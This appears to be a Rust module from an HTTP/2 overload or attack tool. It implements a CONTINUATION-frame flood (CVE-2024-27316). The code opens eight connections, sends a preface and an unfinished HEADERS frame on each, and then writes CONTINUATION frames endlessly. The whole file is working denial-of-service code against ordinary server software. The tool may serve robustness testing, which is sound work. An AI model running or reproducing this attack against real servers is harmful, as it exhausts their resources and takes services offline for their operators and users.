//! Heads over HTTP/2 that go on in one CONTINUATION frame after the other (CVE-2024-27316).

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;

use crate::overload::attack::{Attack, Attackers, SHORT, drain};
use crate::overload::frames::{begun_head, more_of_a_head, preface, stream as id};

const CONNECTIONS: usize = 8;

pub(crate) struct EndlessHeads;

#[async_trait]
impl Attack for EndlessHeads {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let (mut reader, mut writer) = by.connect(number).await?.into_split();
            let first = [preface(None), begun_head(id(0), &by.target.authority, "/")].concat();
            writer.write_all(&first).await?;
            by.sent(1);
            let more = more_of_a_head(id(0));
            let endless = async {
                loop {
                    writer.write_all(&more).await?;
                }
            };
            tokio::select! {
                ended = drain(&mut reader) => ended,
                ended = endless => ended,
            }
        };
        by.many(CONNECTIONS, SHORT, begun).await;
    }
}
